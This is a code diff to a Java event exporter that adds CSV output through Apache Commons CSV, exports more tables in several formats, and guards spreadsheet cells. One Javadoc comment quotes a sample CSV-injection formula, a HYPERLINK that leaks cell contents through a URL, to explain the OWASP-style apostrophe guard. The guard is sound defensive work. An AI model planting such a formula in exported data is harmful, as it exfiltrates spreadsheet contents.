@@ -21,10 +21,13 @@ import java.util.List;
 import java.util.Map;
 import java.util.concurrent.atomic.AtomicLong;
 import java.util.function.Function;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVPrinter;
 import org.herodotus.json.AnalysisJson;
 
 /**
- * Writes stored events in open formats: JSON Lines, CSV, GeoJSON, PLOVER JSON records and Parquet.
+ * Writes stored events in open formats: JSON Lines, CSV, GeoJSON, PLOVER JSON records and Parquet;
+ * and the other tables (incidents, claims, articles) in all of them but PLOVER.
  *
  * <p>Parquet goes through an in-memory DuckDB whichever engine holds the store: the events are
  * written as JSON Lines to a temporary file and DuckDB's {@code COPY ... (FORMAT PARQUET)} turns
@@ -80,16 +83,17 @@ public final class Exporter {
                 case JSONL -> rows.each(row -> line(w, json(row), count));
                 case PLOVER -> rows.each(row -> line(w, json(plover(row)), count));
                 case CSV -> {
-                    w.write(String.join(",", CSV_COLUMNS.keySet()));
-                    w.write("\r\n");
+                    CSVPrinter csv = new CSVPrinter(w, CSV_FORMAT);
+                    csv.printRecord(CSV_COLUMNS.keySet());
                     rows.each(row -> {
                         List<String> cells = new ArrayList<>();
                         for (Function<EventRow, Object> f : CSV_COLUMNS.values()) {
-                            cells.add(csv(f.apply(row)));
+                            cells.add(cell(f.apply(row)));
                         }
-                        write(w, String.join(",", cells) + "\r\n");
+                        record(csv, cells);
                         count.incrementAndGet();
                     });
+                    csv.flush();
                 }
                 case GEOJSON -> {
                     w.write("{\"type\":\"FeatureCollection\",\"features\":[\n");
@@ -110,6 +114,142 @@ public final class Exporter {
         }
         w.flush();
         return count.get();
+    }
+
+    /**
+     * Writes the rows of {@code table} to {@code out} in a text format; returns how many were
+     * written. Events are those matching {@code events}, incidents those matching
+     * {@code incidents}; claims and articles are exported whole. PLOVER records are events only,
+     * and GeoJSON needs a table with coordinates.
+     */
+    public long write(ExportTable table, EventQuery events, IncidentFilter incidents, ExportFormat format,
+                      OutputStream out) throws SQLException, IOException {
+        if (table == ExportTable.EVENTS) {
+            return write(events, format, out);
+        }
+        check(table, format);
+        if (format == ExportFormat.PARQUET) {
+            throw new IllegalArgumentException("Parquet is written to a file: use writeParquet");
+        }
+        Writer w = new BufferedWriter(new OutputStreamWriter(out, StandardCharsets.UTF_8), 1 << 16);
+        AtomicLong count = new AtomicLong();
+        try {
+            switch (format) {
+                case JSONL -> rows(table, incidents, row -> line(w, json(row), count));
+                case CSV -> {
+                    CSVPrinter csv = new CSVPrinter(w, CSV_FORMAT);
+                    csv.printRecord(table.columns().keySet());
+                    rows(table, incidents, row -> {
+                        record(csv, table.columns().keySet().stream().map(column -> cell(row.get(column))).toList());
+                        count.incrementAndGet();
+                    });
+                    csv.flush();
+                }
+                case GEOJSON -> {
+                    w.write("{\"type\":\"FeatureCollection\",\"features\":[\n");
+                    rows(table, incidents, row -> {
+                        if (row.get("lat") == null || row.get("lon") == null) {
+                            return;
+                        }
+                        Map<String, Object> f = new LinkedHashMap<>();
+                        f.put("type", "Feature");
+                        f.put("geometry", Map.of("type", "Point", "coordinates", List.of(row.get("lon"), row.get("lat"))));
+                        Map<String, Object> props = new LinkedHashMap<>(row);
+                        props.remove("lat");
+                        props.remove("lon");
+                        f.put("properties", props);
+                        write(w, (count.getAndIncrement() == 0 ? "" : ",\n") + json(f));
+                    });
+                    w.write("\n]}\n");
+                }
+                default -> throw new IllegalStateException(format.name());
+            }
+        } catch (UncheckedIOException e) {
+            throw e.getCause();
+        }
+        w.flush();
+        return count.get();
+    }
+
+    /** Writes the rows of {@code table} to a Parquet file, typed by its columns; returns how many. */
+    public long writeParquet(ExportTable table, EventQuery events, IncidentFilter incidents, Path file)
+            throws SQLException, IOException {
+        if (table == ExportTable.EVENTS) {
+            return writeParquet(events, file);
+        }
+        Path tmp = Files.createTempFile("herodotus-export", ".jsonl");
+        try {
+            long n;
+            try (OutputStream out = Files.newOutputStream(tmp)) {
+                n = write(table, events, incidents, ExportFormat.JSONL, out);
+            }
+            Path target = file.toAbsolutePath();
+            if (target.getParent() != null) {
+                Files.createDirectories(target.getParent());
+            }
+            List<String> names = new ArrayList<>();
+            List<String> types = new ArrayList<>();
+            table.columns().forEach((name, type) -> {
+                names.add("\"" + name + "\"");
+                types.add(literal(name) + ": " + literal(type));
+            });
+            try (Connection duck = DriverManager.getConnection("jdbc:duckdb:");
+                 Statement s = duck.createStatement()) {
+                s.execute("COPY (SELECT " + String.join(", ", names) + " FROM read_json(" + literal(tmp.toString())
+                        + ", format = 'newline_delimited', columns = {" + String.join(", ", types) + "})) TO "
+                        + literal(target.toString()) + " (FORMAT PARQUET)");
+            }
+            return n;
+        } finally {
+            Files.deleteIfExists(tmp);
+        }
+    }
+
+    /**
+     * Refuses a format the table cannot be written in, saying which tables can.
+     *
+     * @throws IllegalArgumentException naming what to use instead
+     */
+    public static void check(ExportTable table, ExportFormat format) {
+        if (format == ExportFormat.PLOVER && table != ExportTable.EVENTS) {
+            throw new IllegalArgumentException("PLOVER records are events: use --table events, or another format");
+        }
+        if (format == ExportFormat.GEOJSON && !table.hasCoordinates()) {
+            throw new IllegalArgumentException("GeoJSON needs coordinates, which " + table.name().toLowerCase(java.util.Locale.ROOT)
+                    + " do not have: use events, incidents or claims, or another format");
+        }
+    }
+
+    private void rows(ExportTable table, IncidentFilter filter, java.util.function.Consumer<Map<String, Object>> sink)
+            throws SQLException {
+        if (table == ExportTable.INCIDENTS) {
+            for (Incident i : store.incidents(filter)) {
+                sink.accept(incident(i));
+            }
+        } else {
+            store.rows(table, sink);
+        }
+    }
+
+    private static Map<String, Object> incident(Incident i) {
+        Map<String, Object> r = new LinkedHashMap<>();
+        r.put("id", i.id());
+        r.put("event", i.event());
+        r.put("label", i.label());
+        r.put("place", i.place());
+        r.put("lat", i.lat());
+        r.put("lon", i.lon());
+        r.put("country", i.country());
+        r.put("admin1", i.admin1());
+        r.put("date", i.date());
+        r.put("date_from", i.dateFrom());
+        r.put("date_to", i.dateTo());
+        r.put("first_seen", i.firstSeen());
+        r.put("last_seen", i.lastSeen());
+        r.put("events", i.events());
+        r.put("articles", i.articles());
+        r.put("sources", i.sources());
+        return r;
     }
 
     /** Writes the events matching {@code query} to a Parquet file; returns how many were written. */
@@ -275,13 +415,17 @@ public final class Exporter {
         return String.join("; ", out);
     }
 
+    /** RFC 4180: comma-separated, quoted only where needed, CRLF between records. */
+    private static final CSVFormat CSV_FORMAT = CSVFormat.RFC4180;
+
     /**
-     * One CSV cell. Text that a spreadsheet would run as a formula (starting with {@code =},
-     * {@code +}, {@code -}, {@code @}, a tab or a carriage return: a hostile headline such as
-     * {@code =HYPERLINK("http://…?leak="&A1)}) gets a leading apostrophe, as OWASP recommends, so
-     * it is shown as text; numbers (a negative longitude) are left as they are.
+     * One CSV cell's text, before quoting. Text that a spreadsheet would run as a formula
+     * (starting with {@code =}, {@code +}, {@code -}, {@code @}, a tab or a carriage return: a
+     * hostile headline such as {@code =HYPERLINK("http://…?leak="&A1)}) gets a leading
+     * apostrophe, as OWASP recommends, so it is shown as text; numbers (a negative longitude) are
+     * left as they are.
      */
-    public static String csv(Object v) {
+    static String cell(Object v) {
         if (v == null) {
             return "";
         }
@@ -289,10 +433,30 @@ public final class Exporter {
         if (!(v instanceof Number) && !s.isEmpty() && "=+-@\t\r".indexOf(s.charAt(0)) >= 0) {
             s = "'" + s;
         }
-        if (s.indexOf(',') >= 0 || s.indexOf('"') >= 0 || s.indexOf('\n') >= 0 || s.indexOf('\r') >= 0) {
-            return "\"" + s.replace("\"", "\"\"") + "\"";
-        }
         return s;
+    }
+
+    /** One CSV cell as written: guarded as {@link #cell} does, then quoted by the CSV library where needed. */
+    public static String csv(Object v) {
+        String s = cell(v);
+        if (s.isEmpty()) {
+            return s;
+        }
+        StringBuilder out = new StringBuilder();
+        try {
+            CSV_FORMAT.print(s, out, true);
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+        return out.toString();
+    }
+
+    private static void record(CSVPrinter csv, List<String> cells) {
+        try {
+            csv.printRecord(cells);
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
     }
 
     private String json(Object value) {
